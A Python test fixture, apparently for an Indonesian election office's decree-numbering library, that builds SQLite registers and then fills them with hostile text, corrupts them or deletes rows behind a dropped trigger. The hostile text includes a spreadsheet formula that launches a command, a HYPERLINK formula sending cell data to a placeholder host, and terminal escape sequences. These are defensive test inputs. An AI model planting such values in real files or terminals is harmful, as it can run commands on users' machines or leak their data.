"""The registers of numbers the hostile cases use (cases.yaml, section "register"), made with
the library itself and then damaged, tampered with or filled with hostile text as a careless
user, a broken disk or someone with an SQLite browser would leave them."""

from __future__ import annotations

import datetime
import sqlite3
from pathlib import Path

from kpu_docs.nomor.pola import Pola
from kpu_docs.nomor.register import Register
from tests.nomor.conftest import decree_file

INSTANSI = "Komisi Pemilihan Umum Kabupaten Lombok Barat"
POLA = Pola("{urut}/PP.04.1-Kpt/5201/{tahun}")
RUMUS = "=cmd|' /C calc'!A0"


def _register(path: Path, rows: list[tuple[str, str]]) -> Path:
    """A register of one number per (tentang, oleh)."""
    with Register(path, create=True) as reg:
        for tentang, oleh in rows:
            reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10), tentang=tentang,
                      berkas=None, oleh=oleh)
    return path


def make_registers(folder: Path) -> Path:
    """Every register case in `folder`, and a decree (keputusan.yaml) still to be numbered."""
    folder.mkdir(parents=True, exist_ok=True)
    decree_file(folder, "[ISI NOMOR]/PP.04.1-Kpt/5201/2026", "2026-02-10")
    _register(folder / "register.sqlite", [("Pembentukan Tim Kerja", "Siti")] * 3)

    rumus = _register(folder / "rumus.sqlite", [(RUMUS, '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'),
                                               ("+1+1", "@SUM(1)"), ("\t=1+1", "-2+3")])
    with Register(rumus) as reg:
        reg.batal("1/PP.04.1-Kpt/5201/2026", alasan=RUMUS, oleh="=1+1")
        reg.batal("2/PP.04.1-Kpt/5201/2026", alasan="\r@SUM(A1)", oleh="\t=1")

    escape = _register(folder / "escape.sqlite", [("Pembentukan Tim Kerja", "Siti")])
    with Register(escape) as reg:
        reg.batal("1/PP.04.1-Kpt/5201/2026", alasan="\x1b]0;diretas\x07\x1b[2J", oleh="budi\x1b[31m")

    rusak = _register(folder / "rusak.sqlite", [("Pembentukan Tim Kerja " * 8, "Siti")] * 300)
    data = bytearray(rusak.read_bytes())
    data[4096:len(data)] = b"\xa5" * (len(data) - 4096)  # every page but the header's: the rows are unreadable
    rusak.write_bytes(bytes(data))

    with sqlite3.connect(folder / "asing.sqlite") as conn:
        conn.execute("CREATE TABLE nomor (kode TEXT, nama TEXT)")
        conn.execute("INSERT INTO nomor VALUES ('1/PP.04.1-Kpt/5201/2026', 'bukan register')")
    conn.close()

    diubah = _register(folder / "diubah.sqlite", [("Pembentukan Tim Kerja", "Siti")] * 3)
    conn = sqlite3.connect(diubah, isolation_level=None)
    conn.execute("DROP TRIGGER nomor_tidak_dihapus")
    conn.execute("DELETE FROM nomor WHERE urut = 2")
    conn.close()
    return folder
